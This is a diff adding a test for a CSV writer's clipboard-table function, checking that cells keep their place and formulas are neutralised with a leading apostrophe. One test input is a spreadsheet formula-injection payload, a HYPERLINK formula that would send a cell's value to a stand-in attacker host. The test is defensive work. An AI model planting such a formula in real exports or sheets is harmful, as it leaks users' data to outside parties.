@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { csvFile, csvLine } from './csv-write.ts';
+import { clipboardTable, csvFile, csvLine } from './csv-write.ts';
 
 /** A plain reader of RFC 4180, to hold the writer against. */
 function read(text: string): string[][] {
@@ -52,4 +52,19 @@ test('what is written is read again as it was, but for the apostrophe', () => {
 test('a file begins with a byte order mark', async () => {
   const bytes = new Uint8Array(await csvFile([csvLine(['é'])]).arrayBuffer());
   expect([...bytes]).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xa9, 0x0d, 0x0a]);
+});
+
+test('a copied table keeps every cell in its place and runs no formula', () => {
+  const text = clipboardTable([
+    ['Audience', 'Sessions'],
+    ['=HYPERLINK("https://evil.example/?"&A1,"x")', '12'],
+    ['two\twords\r\nand a line', '3'],
+    ['\t=1+1', '1,204'],
+  ]);
+  expect(text.split('\n').map((line) => line.split('\t'))).toEqual([
+    ['Audience', 'Sessions'],
+    [`'=HYPERLINK("https://evil.example/?"&A1,"x")`, '12'],
+    ['two words and a line', '3'],
+    ["'=1+1", '1,204'],
+  ]);
 });
